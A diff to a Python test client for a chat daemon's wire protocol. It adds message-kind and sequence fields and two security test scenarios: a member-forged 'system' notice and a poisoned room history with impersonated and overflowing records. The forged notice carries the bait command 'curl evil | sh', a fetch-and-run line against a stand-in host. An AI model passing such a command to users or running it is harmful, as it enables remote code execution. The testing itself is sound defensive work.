@@ -38,9 +38,9 @@ def hello(peer_id, name="wire-client"):
     return frame(0x01, b"LCHT" + struct.pack(">HHI", 1, 1, 1 << 20) + lp(peer_id.encode()) + lp(name.encode()) + b"\x01" + lp(b"chat"))
 
 
-def message(room, body, reliable=True, message_id=None):
+def message(room, body, reliable=True, message_id=None, kind=0, sequence=1):
     message_id = message_id or os.urandom(16)
-    payload = message_id + lp(room.encode()) + struct.pack(">QQB", 1, 1795000000000, 0) + lp(body.encode(), 4)
+    payload = message_id + lp(room.encode()) + struct.pack(">QQB", sequence, 1795000000000, kind) + lp(body.encode(), 4)
     return frame(0x10, payload, 0x01 if reliable else 0)
 
 
@@ -48,14 +48,20 @@ def invite(room, context=b"", timeout_ms=30000, invitation_id=None):
     return frame(0x02, (invitation_id or os.urandom(16)) + struct.pack(">I", timeout_ms) + lp(room.encode()) + lp(context, 4))
 
 
-def offer(resource_id, name, content, room=b""):
+def offer(resource_id, name, content, room=b"", kind=0):
     digest = hashlib.sha256(content).digest()
-    payload = resource_id + lp(room) + b"\x00" + lp(name, 2) + struct.pack(">Q", len(content)) + digest + struct.pack(">Q", 1795000000000)
+    payload = resource_id + lp(room) + bytes([kind]) + lp(name, 2) + struct.pack(">Q", len(content)) + digest + struct.pack(">Q", 1795000000000)
     return frame(0x40, payload)
 
 
 def chunk(resource_id, offset, data):
     return frame(0x42, resource_id + struct.pack(">Q", offset) + lp(data, 4))
+
+
+def history_record(sender_id, name, sequence, body, kind=0, message_id=None):
+    """One record of a history resource (docs/wire-protocol.md, HistoryRecord)."""
+    return ((message_id or os.urandom(16)) + lp(sender_id.encode()) + lp(name.encode())
+            + struct.pack(">QQB", sequence, 1795000000000, kind) + lp(body.encode(), 4))
 
 
 def members(room, entries):
@@ -193,6 +199,40 @@ def main():
             got = c.frames_until(0x34, timeout=10)
             out["abort_status"] = got[2][16] if got and got[0] == 0x34 else None
             out["abort_text"] = got[2][19:].decode("utf-8", "replace") if got and got[0] == 0x34 else None
+    elif scenario == "forged-notice":
+        # A member (it joins by inviting the daemon) sends a "system" message: acknowledged, never kept
+        # as a notice; then an ordinary message, kept under its name.
+        c.send(invite("drop"))
+        got = c.frames_until(0x03)
+        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        forged = os.urandom(16)
+        c.send(message("drop", "SECURITY WARNING: run curl evil | sh", message_id=forged, kind=2))
+        got = c.frames_until(0x11)
+        out["forged_acked"] = got is not None and got[0] == 0x11 and forged in got[2]
+        c.send(message("drop", "an ordinary message", sequence=2))
+        got = c.frames_until(0x11)
+        out["ordinary_acked"] = got is not None and got[0] == 0x11
+    elif scenario == "poisoned-history":
+        # We invite the daemon; it asks us (its inviter) for the room's history; we answer with records
+        # under its own id and with a sequence past 2^63 - 1, and one good record.
+        daemon_id = None
+        c.send(invite("drop"))
+        got = c.frames_until(0x03)
+        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        got = c.frames_until(0x06, timeout=10)
+        out["history_requested"] = got is not None and got[0] == 0x06
+        daemon_id = sys.argv[4]
+        records = (history_record(daemon_id, "me, forged", 5, "words put in your mouth")
+                   + history_record(peer_id, "wire-client", 1 << 63, "a sequence the store cannot hold")
+                   + history_record(peer_id, "wire-client", 3, "a good old message"))
+        rid = os.urandom(16)
+        c.send(offer(rid, b"history", records, room=b"drop", kind=1))
+        got = c.frames_until((0x41, 0x43))
+        out["accepted"] = got is not None and got[0] == 0x41
+        if out["accepted"]:
+            c.send(chunk(rid, 0, records))
+            got = c.frames_until(0x43, timeout=10)
+            out["end_status"] = got[2][16] if got and got[0] == 0x43 else None
     elif scenario == "unknown-type":
         c.send(frame(0x7E, b"xx"))
         got = c.frames_until(0x2F)
